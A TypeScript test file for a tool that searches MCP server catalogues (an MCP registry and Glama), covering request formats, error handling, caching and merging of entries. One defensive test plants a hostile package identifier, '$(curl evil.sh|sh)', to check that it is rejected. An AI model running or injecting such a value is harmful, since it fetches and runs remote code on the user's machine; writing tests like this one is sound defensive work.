import { expect } from 'chai';
import { Container } from 'inversify';
import { ClockToken, ServerCatalogToken } from '@catwalk/core';
import type { CatalogEntry, ServerCatalog } from '@catwalk/core';
import { CATALOG_CONTRACT_SEED, FakeClock, expectCatwalkError } from '@catwalk/core/testing';
import { GlamaCatalog } from '../../src/catalog/glama.js';
import { McpRegistryCatalog } from '../../src/catalog/mcpRegistry.js';
import { catalogModule, createServerCatalog } from '../../src/catalog/module.js';
import { mergeEntries } from '../../src/catalog/composite.js';
import type { FakeServer } from '../registry/fakeServers.js';
import { registryItem, serverJsonOf, startFakeGlama, startFakeMcpRegistry } from './fakeCatalogs.js';

const notes = CATALOG_CONTRACT_SEED[0]!;

describe('McpRegistryCatalog', function () {
  let server: FakeServer;
  afterEach(async function () {
    await server.close();
  });

  it('GETs /v0.1/servers with search, limit and version=latest, as Catwalk', async function () {
    server = await startFakeMcpRegistry(CATALOG_CONTRACT_SEED);
    await new McpRegistryCatalog({ baseUrl: server.baseUrl }).search(' notes ', { limit: 500 });
    const url = new URL(server.requests[0]!.url, 'http://x');
    expect(url.pathname).to.equal('/v0.1/servers');
    expect(Object.fromEntries(url.searchParams)).to.deep.equal({ search: 'notes', limit: '100', version: 'latest' });
    expect(server.requests[0]!.headers['user-agent']).to.match(/^catwalk\//);
  });

  it('turns a server.json-bearing entry into a ready config and an npm source ("search, click, deploy")', async function () {
    server = await startFakeMcpRegistry(CATALOG_CONTRACT_SEED);
    const { entries } = await new McpRegistryCatalog({ baseUrl: server.baseUrl }).search('notes', { limit: 10 });
    expect(entries).to.have.length(1);
    const entry = entries[0]!;
    expect(entry.source).to.equal('npm:@contract/notes-server@1.2.0');
    expect(entry.packages).to.deep.equal([{ runtime: 'npm', name: '@contract/notes-server', version: '1.2.0' }]);
    expect(entry.repositoryUrl).to.equal(notes.repositoryUrl);
    expect(entry.config?.package).to.deep.equal({ runtime: 'npm', name: '@contract/notes-server', version: '1.2.0' });
    expect(entry.config?.envVars.map((v) => [v.name, v.required, v.secret])).to.deep.equal([['API_TOKEN', true, true]]);
    expect(entry.config?.analyzers).to.deep.equal(['server.json']);
  });

  it('skips deleted and malformed entries, and never trusts a hostile package identifier', async function () {
    const hostile = {
      ...serverJsonOf({ ...notes, name: 'io.github.evil/hostile', repositoryUrl: 'https://github.com/evil/hostile' }),
      packages: [{ registryType: 'npm', identifier: '$(curl evil.sh|sh)', version: '1.0.0', transport: { type: 'stdio' } }],
    };
    server = await startFakeMcpRegistry(CATALOG_CONTRACT_SEED, [
      registryItem(serverJsonOf({ ...notes, name: 'io.github.gone/deleted-notes' }), 'deleted'),
      registryItem({ name: 'io.github.broken/notes', description: 42 }),
      registryItem(hostile),
    ]);
    const { entries } = await new McpRegistryCatalog({ baseUrl: server.baseUrl }).search('io.github', { limit: 10 });
    const names = entries.map((e) => e.name);
    expect(names).to.not.include('io.github.gone/deleted-notes');
    expect(names).to.not.include('io.github.broken/notes');
    const evil = entries.find((e) => e.name === 'io.github.evil/hostile')!;
    expect(evil.packages).to.deep.equal([]);
    expect(evil.config).to.equal(undefined);
    expect(evil.source).to.equal('https://github.com/evil/hostile');
  });

  it('a registry answering 500 → source_unavailable naming the catalogue', async function () {
    server = await startFakeMcpRegistry(CATALOG_CONTRACT_SEED);
    server.fault({ kind: 'status', status: 500 });
    const error = await expectCatwalkError(new McpRegistryCatalog({ baseUrl: server.baseUrl }).search('notes', { limit: 5 }), 'source_unavailable');
    expect((error as unknown as { details: Record<string, unknown> }).details).to.include({ catalog: 'mcp-registry', reason: 'HTTP 500' });
  });

  it('refuses control characters and over-long queries before any request', async function () {
    server = await startFakeMcpRegistry(CATALOG_CONTRACT_SEED);
    const catalog = new McpRegistryCatalog({ baseUrl: server.baseUrl });
    await expectCatwalkError(catalog.search('notes\u0000', { limit: 5 }), 'invalid_input');
    await expectCatwalkError(catalog.search('x'.repeat(201), { limit: 5 }), 'invalid_input');
    expect(server.requests).to.deep.equal([]);
  });
});

describe('GlamaCatalog', function () {
  let server: FakeServer;
  afterEach(async function () {
    await server.close();
  });

  it('GETs /api/mcp/v1/servers?query=&first= with the API key as a bearer token', async function () {
    server = await startFakeGlama(CATALOG_CONTRACT_SEED);
    const { entries } = await new GlamaCatalog({ baseUrl: server.baseUrl, apiKey: 'glama-test-key' }).search('weather', { limit: 3 });
    const url = new URL(server.requests[0]!.url, 'http://x');
    expect(url.pathname).to.equal('/api/mcp/v1/servers');
    expect(Object.fromEntries(url.searchParams)).to.deep.equal({ query: 'weather', first: '3' });
    expect(server.requests[0]!.headers.authorization).to.equal('Bearer glama-test-key');
    expect(entries).to.have.length(1);
    expect(entries[0]).to.deep.include({ repositoryUrl: 'https://github.com/contract/weather', source: 'https://github.com/contract/weather', catalogs: ['glama'] });
  });

  it('HTML instead of JSON → source_unavailable', async function () {
    server = await startFakeGlama(CATALOG_CONTRACT_SEED);
    server.fault({ kind: 'html' });
    await expectCatwalkError(new GlamaCatalog({ baseUrl: server.baseUrl }).search('weather', { limit: 3 }), 'source_unavailable');
  });
});

describe('CompositeServerCatalog', function () {
  let registry: FakeServer;
  let glama: FakeServer;
  let clock: FakeClock;
  let catalog: ServerCatalog;

  beforeEach(async function () {
    [registry, glama] = await Promise.all([startFakeMcpRegistry(CATALOG_CONTRACT_SEED), startFakeGlama(CATALOG_CONTRACT_SEED)]);
    clock = new FakeClock();
    catalog = createServerCatalog({ mcpRegistry: { baseUrl: registry.baseUrl }, glama: { baseUrl: glama.baseUrl } }, clock);
  });
  afterEach(async function () {
    await Promise.all([registry.close(), glama.close()]);
  });

  it('merges one server listed by both catalogues into one entry, keeping the config and the package source', async function () {
    const { entries, degraded } = await catalog.search('notes', { limit: 10 });
    expect(degraded).to.deep.equal([]);
    // Glama also matches the weather server's description ("… for notes and trips"); the registry matches names.
    expect(entries.map((e) => e.repositoryUrl)).to.deep.equal(['https://github.com/contract/notes-server', 'https://github.com/contract/weather']);
    expect(entries[0]!.catalogs).to.deep.equal(['mcp-registry', 'glama']);
    expect(entries[0]!.source).to.equal('npm:@contract/notes-server@1.2.0');
    expect(entries[0]!.config).to.not.equal(undefined);
  });

  it('keeps answering when one catalogue is down, naming it in degraded', async function () {
    glama.fault({ kind: 'status', status: 502 });
    const result = await catalog.search('notes', { limit: 10 });
    expect(result.entries.map((e) => e.name)).to.deep.equal(['io.github.contract/notes-server']);
    expect(result.entries[0]!.catalogs).to.deep.equal(['mcp-registry']);
    expect(result.degraded).to.deep.equal([{ catalog: 'glama', reason: 'HTTP 502' }]);
  });

  it('fails with source_unavailable only when every catalogue is down', async function () {
    glama.fault({ kind: 'reset' });
    registry.fault({ kind: 'malformed' });
    await expectCatwalkError(catalog.search('notes', { limit: 10 }), 'source_unavailable');
  });

  it('caches a query briefly (Clock-driven), and a degraded answer for less', async function () {
    await catalog.search('notes', { limit: 10 });
    await catalog.search('NOTES', { limit: 10 });
    expect([registry.requests.length, glama.requests.length]).to.deep.equal([1, 1]);
    clock.advance(61_000);
    glama.fault({ kind: 'status', status: 500 });
    await catalog.search('notes', { limit: 10 });
    expect([registry.requests.length, glama.requests.length]).to.deep.equal([2, 2]);
    clock.advance(4_000);
    await catalog.search('notes', { limit: 10 });
    expect(registry.requests.length).to.equal(2);
    clock.advance(2_000);
    glama.fault(undefined);
    const recovered = await catalog.search('notes', { limit: 10 });
    expect(recovered.degraded).to.deep.equal([]);
    expect(registry.requests.length).to.equal(3);
  });

  it('shares one upstream round between concurrent identical searches', async function () {
    await Promise.all(Array.from({ length: 50 }, () => catalog.search('weather', { limit: 5 })));
    expect([registry.requests.length, glama.requests.length]).to.deep.equal([1, 1]);
  });

  it('de-duplicates by package when repository URLs differ or are missing', function () {
    const a: CatalogEntry = { name: 'a', description: 'short', packages: [{ runtime: 'npm', name: 'x-server' }], catalogs: ['one'] };
    const b: CatalogEntry = {
      name: 'b',
      description: 'a longer description',
      repositoryUrl: 'https://github.com/x/x-server.git',
      packages: [{ runtime: 'npm', name: 'x-server', version: '1.0.0' }],
      catalogs: ['two'],
    };
    const c: CatalogEntry = { name: 'c', description: '', repositoryUrl: 'https://GitHub.com/x/x-server/', packages: [], catalogs: ['three'] };
    const merged = mergeEntries([[a], [b], [c]]);
    expect(merged).to.have.length(1);
    expect(merged[0]).to.deep.include({ name: 'a', description: 'a longer description', catalogs: ['one', 'two', 'three'] });
  });
});

describe('catalogModule', function () {
  it('binds ServerCatalogToken to a composite that uses the bound Clock', async function () {
    const [registry, glama] = await Promise.all([startFakeMcpRegistry(CATALOG_CONTRACT_SEED), startFakeGlama(CATALOG_CONTRACT_SEED)]);
    try {
      const clock = new FakeClock();
      const container = new Container();
      container.bind(ClockToken).toConstantValue(clock);
      await container.load(catalogModule({ mcpRegistry: { baseUrl: registry.baseUrl }, glama: { baseUrl: glama.baseUrl } }));
      const catalog = container.get<ServerCatalog>(ServerCatalogToken);
      expect(container.get<ServerCatalog>(ServerCatalogToken)).to.equal(catalog);
      await catalog.search('files', { limit: 5 });
      await catalog.search('files', { limit: 5 });
      expect(registry.requests.length).to.equal(1);
      clock.advance(120_000);
      await catalog.search('files', { limit: 5 });
      expect(registry.requests.length).to.equal(2);
    } finally {
      await Promise.all([registry.close(), glama.close()]);
    }
  });
});
